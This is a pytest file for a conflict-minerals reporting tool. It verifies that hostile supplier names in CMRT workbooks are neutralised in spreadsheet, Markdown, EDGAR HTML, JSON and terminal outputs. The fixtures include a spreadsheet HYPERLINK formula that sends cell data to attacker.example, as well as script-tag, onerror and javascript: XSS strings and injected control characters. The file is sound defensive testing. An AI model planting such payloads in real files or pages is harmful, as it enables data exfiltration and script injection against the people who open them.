"""A supplier's text never acts in the program that opens an output: spreadsheets, Markdown, EDGAR, terminals."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path

from conflict_minerals.cmrt import read_cmrt
from conflict_minerals.cmrt.writer import write_cmrt
from conflict_minerals.neutral import markdown_text, spreadsheet_text, terminal_text
from conflict_minerals.reference.snapshot import bundled_snapshot
from conflict_minerals.report.render import edgar_problems
from tests.conftest import FULL_DECLARATION, declaration
from tests.workspace_fixtures import Program

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(1)>[link](javascript:alert(1))"


def hostile_cmrt(path: Path, name: str, smelter_name: str) -> Path:
    smelters = [{"metal": "Tin", "lookup_name": "Smelter not listed", "name": smelter_name, "country": "PERU"}]
    company = dict(FULL_DECLARATION["company"], name=name)
    write_cmrt(path, declaration(company=company, smelters=smelters), bundled_snapshot().entries)
    return path


def with_control_characters(path: Path, marker: str) -> Path:
    """Put a BEL and a NUL into the workbook's text, as a hand-made file can."""
    out = io.BytesIO()
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            target.writestr(item, source.read(item.filename).replace(marker.encode(), b"Evil\x07Na_x0000_me"))
    path.write_bytes(out.getvalue())
    return path


def test_neutralisers() -> None:
    assert [spreadsheet_text(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "ok", 3)] == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@SUM(A1)",
        "'\tx",
        "ok",
        3,
    ]
    escaped = markdown_text(SCRIPT)
    assert "<" not in escaped.replace("\\<", "") and "](" not in escaped.replace("\\](", "")
    assert markdown_text("[X] Rule 13p-1") == "[X] Rule 13p-1"
    assert terminal_text("a\nb\x1b[31m") == "a\\x0ab\\x1b[31m"


def test_control_characters_are_removed_at_read_time_with_a_finding(tmp_path: Path) -> None:
    path = with_control_characters(hostile_cmrt(tmp_path / "c.xlsx", "EVILCO", "EVILCO"), "EVILCO")
    document = read_cmrt(path)
    assert document.company.name == "EvilName" and document.smelters[0].entered_name == "EvilName"
    cells = {(f.source.sheet, f.source.cell) for f in document.findings if f.code == "CMRT-D-007"}
    assert ("Declaration", "D8") in cells and any(sheet == "Smelter List" for sheet, _ in cells)


def test_our_writer_keeps_formula_text_as_text(tmp_path: Path) -> None:
    path = hostile_cmrt(tmp_path / "f.xlsx", "Formula Co", FORMULA)
    with zipfile.ZipFile(path) as archive:
        xml = b"".join(archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in xml  # no formula anywhere in our workbook
    assert read_cmrt(path).smelters[0].entered_name == FORMULA  # kept, as text


def test_hostile_names_are_neutral_in_every_output(program: Program, tmp_path: Path) -> None:
    program("suppliers", "add", "Formula Co", "--unique-id", "123456789")
    program("campaign", "start", "2025")
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    first = with_control_characters(hostile_cmrt(inbox / "f.xlsx", "Formula Co", FORMULA), "PERU")
    program("ingest", first, ok=False)
    stored = program("review", "--json", "--all", ok=False).output
    assert "CMRT-D-007" in stored and "\\u0007" not in stored and "\x07" not in stored
    hostile_cmrt(inbox / "s.xlsx", "Formula Co", SCRIPT)
    program("ingest", inbox, ok=False)
    out = tmp_path / "out"
    program("report", "--draft", "--period", "2025", "--out", out)
    for markdown in out.glob("*.md"):
        text = markdown.read_text(encoding="utf-8")
        assert not re.search(r"(?<!\\)<(script|img)|(?<!\\)\]\(javascript", text), markdown.name
    for page in out.glob("*.htm"):
        html = page.read_text(encoding="ascii")
        assert edgar_problems(html) == [] and "<script" not in html.lower()
    report = (out / "report.json").read_text(encoding="utf-8")
    assert "\x07" not in report and "\\u0007" not in report and "\\u0000" not in report
    export = tmp_path / "evidence.csv"
    program("report", "evidence", "--period", "2025", "--out", export)
    rows = list(csv.reader(export.open(encoding="utf-8")))
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    own = tmp_path / "own.xlsx"
    program("export-cmrt", "--period", "2025", "--out", own)
    with zipfile.ZipFile(own) as archive:
        sheets = b"".join(archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>HYPERLINK" not in sheets  # a supplier's formula never becomes ours
    assert read_cmrt(own).template.version  # opens and reads back
    listing = json.loads(program("review", "--json", ok=False).output)
    assert listing and "\\u0007" not in json.dumps(listing)
